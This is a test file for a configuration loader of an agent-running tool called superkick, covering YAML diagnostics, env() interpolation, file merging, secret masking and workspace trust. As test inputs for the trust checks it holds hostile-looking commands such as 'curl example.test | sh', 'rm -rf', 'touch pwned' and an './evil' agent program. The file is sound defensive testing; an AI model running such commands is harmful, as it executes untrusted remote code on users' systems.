import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { ConfigLoader, type LoadInput } from '../../server/src/config/loadConfig';
import { formatDiagnostic } from '../../server/src/config/diagnostic';
import { baseConfigSchema, walk, type JsonSchema } from '../../server/src/config/schema';
import { INTEGRATIONS } from '../../server/src/integrations';
import { trustAll } from '../../server/src/config/trust';
import { maskSecrets, MASK } from '../../server/src/config/mask';
import { applyDriverOverride } from '../../server/src/drivers/overrides';
import { claude } from '../../server/src/drivers/claude';
import { ConfigHolder, type SectionChange } from '../../server/src/config/configHolder';

const loader = new ConfigLoader();
const USER = '/home/u/.superkick/config.yml';
const WS = '/src/app/superkick.yml';

function load(workspace: string | undefined, user?: string, extra: Partial<LoadInput> = {}) {
  return loader.load({ workspace: { file: WS, text: workspace }, user: { file: USER, text: user }, env: {}, ...extra });
}

function lines(result: ReturnType<typeof load>): string[] {
  return result.diagnostics.map((d) => formatDiagnostic(d));
}

describe('config: parsing and positions', () => {
  it('a missing file is an empty, valid configuration', () => {
    const result = load(undefined);
    assert.equal(result.ok, true);
    assert.deepEqual(result.config, {});
    assert.deepEqual(result.files, []);
  });

  it('a YAML syntax error has the line and column of the fault', () => {
    const result = load('spawners:\n  dd:\n    type: datadog\n   bad: [1, 2\n');
    assert.equal(result.ok, false);
    assert.ok(result.diagnostics.length > 0);
    for (const d of result.diagnostics) {
      assert.equal(d.file, WS);
      assert.match(d.message, /^YAML: /);
      assert.ok(d.line >= 1 && d.column >= 1);
    }
  });

  it('a schema error points at the value, an unknown key at the key, with a suggestion', () => {
    const result = load('spawners:\n  dd:\n    type: datadog\n    minimum_events: many\n    servce: web\n');
    assert.deepEqual(lines(result), [
      `${WS}:4:21: spawners.dd.minimum_events: must be a whole number, not the string "many"`,
      `${WS}:5:5: spawners.dd.servce: unknown key "servce" (did you mean "service"?); allowed here: ${Object.keys({ ...((baseConfigSchema().$defs as Record<string, JsonSchema>).spawnersCommon.properties as object), ...(INTEGRATIONS.find((i) => i.type === 'datadog')!.configSchema.properties as object) }).join(', ')}`,
    ]);
    const range = result.diagnostics[0];
    assert.deepEqual([range.line, range.column, range.endLine, range.endColumn], [4, 21, 4, 25], 'the whole value is covered');
  });

  it('an unknown type names the known ones', () => {
    const result = load('monitors:\n  ci:\n    type: shel\n    command: make\n');
    assert.deepEqual(lines(result), [`${WS}:3:11: monitors.ci.type: unknown monitor type "shel" (did you mean "shell"?); known monitor types: shell, github`]);
  });

  it('a missing required key points at the entry', () => {
    const result = load('goals:\n  green:\n    type: command\n');
    assert.deepEqual(lines(result), [`${WS}:2:3: goals.green: missing required key "command"`]);
  });

  it('a name that must exist elsewhere is checked across sections', () => {
    const result = load('goals:\n  done: {type: agent_exit}\nspawners:\n  dd:\n    type: datadog\n    goal: dnoe\n');
    assert.deepEqual(lines(result), [`${WS}:6:11: spawners.dd.goal: there is no "dnoe" under goals (did you mean "done"?); goals: done`]);
  });

  it('a file that is not a map of sections is one error at its start', () => {
    const result = load('- a\n- b\n');
    assert.deepEqual(lines(result), [`${WS}:1:1: the file must be a map of sections (server:, spawners:, monitors:, …), not a list`]);
  });
});

describe('config: env() interpolation', () => {
  it('replaces values after parsing, so a secret cannot change the structure', () => {
    const result = load('server:\n  api_key: <%= env("KEY") %>\n  url: https://<%= env("HOST", "localhost") %>/x\n', undefined, { env: { KEY: 'a: b\n- c # d' } });
    assert.equal(result.ok, true, lines(result).join('\n'));
    assert.deepEqual(result.config.server, { api_key: 'a: b\n- c # d', url: 'https://localhost/x' });
    assert.deepEqual(result.fromEnv.sort(), ['/server/api_key', '/server/url']);
  });

  it('an unset variable is an error at the expression itself', () => {
    const result = load('server:\n  api_key: "Bearer <%= env(\'SK_NOT_SET\') %>"\n');
    assert.deepEqual(lines(result), [`${WS}:2:20: environment variable SK_NOT_SET is not set (set it where the host starts, or give a default: env("SK_NOT_SET", "…"))`]);
    const d = result.diagnostics[0];
    assert.equal(d.endColumn - d.column, '<%= env(\'SK_NOT_SET\') %>'.length);
  });

  it('anything but env() is refused', () => {
    const result = load('server:\n  api_key: <%= `rm -rf` %>\n  url: <% x\n');
    assert.deepEqual(lines(result), [
      `${WS}:2:12: <%= \`rm -rf\` %>: only <%= env("NAME") %> and <%= env("NAME", "default") %> are understood here`,
      `${WS}:3:8: an unclosed <% … %> expression`,
    ]);
  });
});

describe('config: the user file under the workspace file', () => {
  const user = 'agents:\n  driver: claude\n  env: {A: "1", B: "2"}\n  args: [--x, --y]\nnotifiers:\n  bell: {type: terminal_bell}\n  desk: {type: terminal_bell}\n';

  it('maps merge, lists replace, null removes, and a different type replaces', () => {
    const workspace = 'agents:\n  env: {B: "3"}\n  args: [--z]\nnotifiers:\n  desk: ~\n  bell:\n    events: [goal_met]\n';
    const result = load(workspace, user, { trust: trustAll(load(workspace, user).commandEntries) });
    assert.equal(result.ok, true, lines(result).join('\n'));
    assert.deepEqual(result.config.agents, { driver: 'claude', env: { A: '1', B: '3' }, args: ['--z'] });
    assert.deepEqual(result.config.notifiers, { bell: { type: 'terminal_bell', events: ['goal_met'] } });
  });

  it('an entry of another type replaces the one beneath instead of merging with it', () => {
    const result = load('goals:\n  g: {type: agent_exit}\n', 'goals:\n  g: {type: command, command: make, poll_interval: 5}\n');
    assert.equal(result.ok, true, lines(result).join('\n'));
    assert.deepEqual(result.config.goals, { g: { type: 'agent_exit' } });
  });

  it('an error in the merged data points into the file that wrote it', () => {
    const result = load('agents:\n  history_lines: -1\n', 'agents:\n  driver: clade\n');
    assert.deepEqual(lines(result), [
      `${USER}:2:11: agents.driver: "clade" is not one of "claude", "codex", "copilot", "gemini", "goose", "command" (did you mean "claude"?)`,
      `${WS}:2:18: agents.history_lines: must be >= 0`,
    ]);
  });

  it('an entry completed by the workspace is valid only together', () => {
    const [workspace, user] = ['goals:\n  green:\n    command: make test\n', 'goals:\n  green:\n    type: command\n    command: true\n'];
    // The workspace changes what a command goal runs: trusted here (see the trust tests for the untrusted case).
    const result = load(workspace, user, { trust: trustAll(load(workspace, user).commandEntries) });
    assert.equal(result.ok, true, lines(result).join('\n'));
    assert.deepEqual(result.config.goals, { green: { type: 'command', command: 'make test' } });
  });
});

describe('config: the schema', () => {
  it('every key of the base schema and of every integration has a description', () => {
    const missing: string[] = [];
    const check = (schema: unknown, where: string) =>
      walk(schema, (node) => {
        for (const [key, property] of Object.entries((node.properties ?? {}) as Record<string, JsonSchema>)) {
          if (typeof property.description !== 'string' || !property.description) missing.push(`${where}: ${key}`);
        }
      });
    check(baseConfigSchema(), 'base');
    for (const integration of INTEGRATIONS) check(integration.configSchema, `${integration.section}/${integration.type}`);
    assert.deepEqual(missing, []);
  });

  it('every setup snippet is a valid entry of its section', () => {
    for (const integration of INTEGRATIONS) {
      const body = integration.section === 'runtime' ? integration.setupSnippet : integration.setupSnippet.replace(/^/gm, '  ');
      const text = `${integration.section}:\n${body.replace(/^(?!\s*$)/gm, '  ').replace(/^ {2}/gm, '')}`;
      const result = load(integration.section === 'runtime' ? `runtime:\n${integration.setupSnippet.replace(/^(?!\s*$)/gm, '  ')}` : text);
      assert.equal(result.ok, true, `${integration.type}: ${lines(result).join('\n')}`);
    }
  });
});

describe('config: template hook', () => {
  const checking = new ConfigLoader({
    checkTemplate: (source) => {
      const at = source.indexOf('{% bogus');
      return at < 0 ? [] : [{ message: 'unknown tag "bogus"', start: at, end: at + 8 }];
    },
  });

  it("turns the checker's offsets into the exact place in a block scalar", () => {
    const text = 'monitors:\n  t:\n    type: shell\n    command: make\n    template: |\n      line one\n      x {% bogus %}\n';
    const result = checking.load({ workspace: { file: WS, text }, env: {} });
    assert.deepEqual(result.diagnostics.map((d) => formatDiagnostic(d)), [`${WS}:7:9: monitors.t.template: unknown tag "bogus"`]);
    assert.equal(result.diagnostics[0].endColumn, 17);
  });

  it('marked keys only: a string elsewhere is never given to the checker', () => {
    const result = checking.load({ workspace: { file: WS, text: 'monitors:\n  t:\n    type: shell\n    command: "{% bogus %}"\n' }, env: {} });
    assert.equal(result.ok, true);
  });
});

describe('config: workspace trust', () => {
  const text = 'monitors:\n  tests: {type: shell, command: "touch pwned"}\nnotifiers:\n  bell: {type: terminal_bell}\nspawners:\n  dd:\n    type: datadog\n    setup: [npm ci]\n';

  it('holds back every workspace entry that runs commands until trusted', () => {
    const result = load(text);
    assert.equal(result.ok, true, lines(result).join('\n'));
    assert.deepEqual(result.heldBack.map((h) => h.path).sort(), ['monitors.tests', 'spawners.dd']);
    assert.match(result.heldBack.find((h) => h.path === 'spawners.dd')!.reason, /its "setup" runs commands/);
    assert.deepEqual(result.config.monitors, {});
    assert.deepEqual(result.config.notifiers, { bell: { type: 'terminal_bell' } });
    assert.equal((result.config.spawners as Record<string, unknown>).dd, undefined);
  });

  it('a trusted entry is live; changing it holds it back again, other edits do not', () => {
    const trust = trustAll(load(text).commandEntries);
    assert.deepEqual(load(text, undefined, { trust }).heldBack, []);
    const otherEdit = load(text.replace('bell: {type: terminal_bell}', 'bell: {type: terminal_bell, events: [goal_met]}'), undefined, { trust });
    assert.deepEqual(otherEdit.heldBack, []);
    const changed = load(text.replace('touch pwned', 'touch pwned2'), undefined, { trust });
    assert.deepEqual(changed.heldBack.map((h) => h.path), ['monitors.tests']);
    assert.match(changed.heldBack[0].reason, /changed since you trusted/);
  });

  it("the user's own file is never held back", () => {
    const result = load(undefined, text);
    assert.deepEqual(result.heldBack, []);
    assert.deepEqual(result.config.monitors, { tests: { type: 'shell', command: 'touch pwned' } });
  });

  it("a workspace entry without a type that changes the user's own command-running entry waits for trust", () => {
    const user = 'monitors:\n  tests: {type: shell, command: npm test}\ngoals:\n  green: {type: command, command: npm test}\n';
    const result = load('monitors:\n  tests:\n    command: curl example.test | sh\ngoals:\n  green:\n    poll_interval: 5\n', user);
    assert.deepEqual(result.heldBack.map((h) => h.path).sort(), ['goals.green', 'monitors.tests']);
    assert.deepEqual(result.config.monitors, { tests: { type: 'shell', command: 'npm test' } }, "the user's own entry applies, unchanged");
    assert.deepEqual(result.config.goals, { green: { type: 'command', command: 'npm test' } });
  });

  it('an agent program (or its environment) set by a workspace needs trust too', () => {
    const result = load('agents:\n  command: ./evil\n  env: {PATH: .}\n  driver: command\n');
    assert.deepEqual(result.heldBack.map((h) => h.path).sort(), ['agents.command', 'agents.env']);
    assert.deepEqual(result.config.agents, { driver: 'command' });
  });
});

describe('config: secrets in config show', () => {
  it('masks keys named like secrets and every value from env()', () => {
    const result = load('server:\n  url: <%= env("URL", "https://h") %>\n  log_level: info\nspawners:\n  dd: {type: datadog, api_key: plain, service: web}\n');
    const masked = maskSecrets(result.config, new Set(result.fromEnv)) as Record<string, Record<string, unknown>>;
    assert.deepEqual(masked.server, { url: MASK, log_level: 'info' });
    assert.deepEqual(masked.spawners.dd, { type: 'datadog', api_key: MASK, service: 'web' });
  });
});

describe('config: drivers overrides', () => {
  it('replaces the lists and values given, and leaves the profile alone', () => {
    const before = structuredClone(claude);
    const changed = applyDriverOverride(claude, { states: { idle: ['READY>'] }, idle_settle_ms: 400 });
    assert.deepEqual(changed.states, { ...claude.states, idle: ['READY>'] });
    assert.equal(changed.idleSettleMs, 400);
    assert.deepEqual(changed.commands, claude.commands);
    assert.deepEqual(claude, before);
  });
});

describe('config: the live configuration', () => {
  it('keeps the last good configuration through a bad load, and says which sections changed', () => {
    const holder = new ConfigHolder();
    const events: SectionChange[] = [];
    holder.on('section', (change) => events.push(change));
    const first = 'budget: {daily_usd: 5}\nnotifiers:\n  bell: {type: terminal_bell}\n';
    holder.apply(load(first));
    assert.deepEqual(events.map((e) => e.section).sort(), ['budget', 'notifiers']);

    events.length = 0;
    const bad = holder.apply(load('budget: {daily_usd: -1}\n'));
    assert.equal(bad.accepted, false);
    assert.deepEqual(holder.config.budget, { daily_usd: 5 });
    assert.equal(holder.usingLastGood, true);
    assert.equal(holder.errors.length, 1);
    assert.deepEqual(events, []);

    holder.apply(load(first.replace('daily_usd: 5', 'daily_usd: 7')));
    assert.deepEqual(events, [{ section: 'budget', value: { daily_usd: 7 } }], 'only the section that changed');
    assert.equal(holder.usingLastGood, false);

    events.length = 0;
    holder.apply(load(first.replace('daily_usd: 5', 'daily_usd: 7').replace('notifiers:', '# a comment\nnotifiers:')));
    assert.deepEqual(events, [], 'a change that leaves every value alone restarts nothing');
  });
});
